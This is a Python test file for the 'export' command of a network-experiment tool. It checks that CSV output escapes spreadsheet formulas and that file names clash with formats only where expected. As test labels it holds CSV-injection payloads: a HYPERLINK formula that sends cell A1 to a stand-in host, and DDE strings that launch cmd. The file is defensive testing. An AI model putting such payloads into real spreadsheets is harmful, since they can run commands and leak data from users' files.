"""Tables that `mesonet export` writes have no cell that a spreadsheet executes."""

import csv
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from mesonet.campaign import Campaign, run_campaign
from mesonet.cli import app
from mesonet.plan import plan_from_dict
from mesonet.store import Mark

LABELS = (
    '=HYPERLINK("http://a.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "-40 dB",
)
ERROR = "=cmd|' /C calc'!A0"
FORMULA = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"[+-]?[\d.]+(?:[eE][+-]?\d+)?(?: dB)?|[+-]?inf|nan|")


@pytest.fixture(scope="module")
def campaign(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("campaign") / "out"
    plan = plan_from_dict(
        {
            "name": "labels",
            "replicates": 2,
            "responses": ["utilization"],
            "scenario": {
                "kind": "dumbbell",
                "rate": "5 Mbit/s",
                "rtt": "20 ms",
                "flows": ["reno"],
                "duration": "1 s",
            },
            "alternatives": [
                {"label": label, "set": {"rtt": f"{10 + here} ms"}}
                for here, label in enumerate(LABELS)
            ],
        }
    )
    run_campaign(plan, out=folder, workers=1)
    opened = Campaign.open(folder)
    opened.store.ledger.mark([Mark(opened.store.order[0], "failed", ERROR)])
    return folder


def exported(campaign: Path, out: Path, table: str, *options: str) -> list[list[str]]:
    command = ["export", str(campaign), "--table", table, "--out", str(out), *options]
    done = CliRunner().invoke(app, command)
    assert done.exit_code == 0, done.stderr
    with out.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize(
    ("table", "holds"),
    [
        ("results", LABELS),
        ("cells", LABELS),
        ("failures", (ERROR,)),
        ("timings", ()),
        ("conditions", ()),
        ("paired_differences", LABELS[1:]),
    ],
)
def test_no_cell_is_a_formula(
    campaign: Path, tmp_path: Path, table: str, holds: tuple[str, ...]
) -> None:
    rows = exported(campaign, tmp_path / "safe.csv", table)
    cells = [cell for row in rows for cell in row]
    dangerous = [cell for cell in cells if FORMULA.match(cell) and not NUMBER.fullmatch(cell)]
    assert dangerous == []
    # What was there is there, behind an apostrophe.
    assert {cell.removeprefix("'") for cell in cells} >= set(holds)

    raw = exported(campaign, tmp_path / "raw.csv", table, "--raw")
    assert {cell for row in raw for cell in row} >= set(holds)


@pytest.mark.parametrize(
    ("options", "said"),
    [
        (("--out", "t.xyz"), "--out t.xyz: expected a name that ends with .csv, .arrow, .parquet"),
        (("--out", "t.parqet"), 'or --format (did you mean "parquet"?)'),
        (("--format", "csv", "--out", "t.parquet"), "ends with .csv, or --format parquet"),
        (("--out", "-"), '--out: expected the name of a file, got "-"'),
    ],
)
def test_names_that_contradict_the_format_are_refused(
    campaign: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, options: tuple[str], said: str
) -> None:
    monkeypatch.chdir(tmp_path)
    done = CliRunner().invoke(app, ["export", str(campaign), *options])
    assert done.exit_code == 2
    assert said in done.stderr
    assert list(tmp_path.iterdir()) == []


def test_other_names_take_the_format_that_is_asked_for(campaign: Path, tmp_path: Path) -> None:
    assert exported(campaign, tmp_path / "t.txt", "results", "--format", "csv")
    assert exported(campaign, tmp_path / "t", "results")
